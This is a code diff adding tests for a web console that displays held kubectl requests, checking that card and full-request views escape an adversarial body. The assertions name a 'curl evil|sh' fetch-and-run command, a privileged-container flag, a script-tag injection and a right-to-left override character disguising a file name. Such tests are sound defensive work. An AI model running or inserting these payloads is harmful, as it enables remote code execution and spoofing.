@@ -2,6 +2,7 @@ import assert from 'node:assert/strict';
 import { describe, test } from 'node:test';
 import { renderCard } from '../../../../src/adapters/web/render-card.ts';
 import { renderFullChange } from '../../../../src/adapters/web/render-full-change.ts';
+import { bodyCard } from '../../core/changes/adversarial-body.ts';
 import { patchCard } from '../../core/changes/adversarial-patch.ts';
 import { assertGoldenHtml } from './golden-html.ts';
 
@@ -32,5 +33,28 @@ describe('console: a patch card and its full change', () => {
     );
     assert.ok(!markup.includes('<script>') && markup.includes('&lt;/pre&gt;&lt;script&gt;'));
     assert.ok(!markup.includes('\u202e') && markup.includes('\\u202egnp.exe'));
+  });
+});
+
+describe('console: a held kubectl request and its full body', () => {
+  test('card-api-body: says the body size and links to the full request', () => {
+    const markup = renderCard(bodyCard, { csrfToken: CSRF }).value;
+    assertGoldenHtml('web/card-api-body', markup);
+    assert.match(markup, /Request body 632 bytes; the card shows its first 199 characters/);
+    assert.match(markup, /<a href="\/requests\/cs-b0dyadv01#full-change">Show full request<\/a>/);
+    assert.ok(
+      !markup.includes('privileged') && !markup.includes('curl evil'),
+      'the card alone does not show them',
+    );
+    assert.ok(markup.includes(bodyCard.change!.full.call!.sha256));
+  });
+
+  test('full-request: the whole body, escaped, bidi visible', () => {
+    const markup = renderFullChange(bodyCard.change!.full).value;
+    assertGoldenHtml('web/full-request', markup);
+    assert.ok(markup.includes('&quot;privileged&quot;: true') && markup.includes('&quot;curl evil|sh&quot;'));
+    assert.ok(!markup.includes('<script>') && markup.includes('&lt;/pre&gt;&lt;script&gt;'));
+    assert.ok(!markup.includes('\u202e') && markup.includes('\\u202egnp.exe &amp; &lt;b&gt;'));
+    assert.ok(markup.includes(`SHA-256 ${bodyCard.change!.full.call!.sha256}`));
   });
 });
